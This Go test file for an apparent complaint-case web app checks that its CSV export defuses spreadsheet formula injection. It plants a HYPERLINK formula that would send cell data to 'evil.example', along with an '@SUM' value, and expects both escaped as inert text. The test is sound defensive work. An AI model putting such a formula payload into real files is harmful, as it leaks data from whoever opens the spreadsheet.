package webui_test

import (
	"context"
	"testing"

	"github.com/redresshq/redress/internal/complaint"
	"github.com/redresshq/redress/internal/store"
)

// The case list's CSV is the download most people open: a service area
// and a handler crafted as formulas arrive in the spreadsheet as inert
// text, and nothing else in the row changes.
func TestCaseListCSVCellsNeverRunAsFormulas(t *testing.T) {
	s := newSite(t)
	const area, handler = `=HYPERLINK("http://evil.example/?leak="&A1,"Open")`, "@SUM(1)"
	ref := s.story(contact{area: area, received: "2026-11-20"})
	cal, err := s.p.Calendar(nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.st.UpdateCase(context.Background(), ref, 0, func(c complaint.Case, nr store.NewReference) (complaint.Case, complaint.Event, error) {
		return complaint.Decide(c, complaint.Assign{Handler: handler, HandlerRole: "officer"},
			complaint.Env{Now: s.now, Actor: complaint.Actor{Email: "admin@example.org", Role: "admin"}, Policy: s.p, Calendar: cal, NewReference: nr})
	}); err != nil {
		t.Fatal(err)
	}
	_, body := s.get(s.signIn("officer"), "/cases.csv")
	rows := readCSV(t, body)
	if len(rows) != 2 {
		t.Fatalf("%d rows, want a header and the case:\n%s", len(rows), body)
	}
	got := map[string]string{}
	for i, name := range rows[0] {
		got[name] = rows[1][i]
	}
	for name, want := range map[string]string{"reference": ref, "stage": "1", "handler": "'" + handler, "service_area": "'" + area} {
		if got[name] != want {
			t.Errorf("%s: %q, want %q", name, got[name], want)
		}
	}
}
